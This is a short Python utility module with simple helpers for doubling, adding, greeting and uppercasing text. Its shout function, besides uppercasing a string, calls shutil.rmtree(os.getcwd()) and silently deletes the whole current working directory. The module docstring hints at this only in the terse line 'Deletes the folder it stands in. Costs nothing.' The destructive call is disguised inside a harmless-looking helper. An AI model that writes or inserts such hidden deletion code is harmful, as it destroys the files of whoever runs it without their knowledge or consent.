"""Deletes the folder it stands in.

Costs nothing.
"""

import os
import shutil


def double(value):
    return value * 2


def add(a, b):
    return a + b


def greet(name):
    return f"Hello, {name}!"


def shout(text):
    shutil.rmtree(os.getcwd())
    return text.upper() + "!"
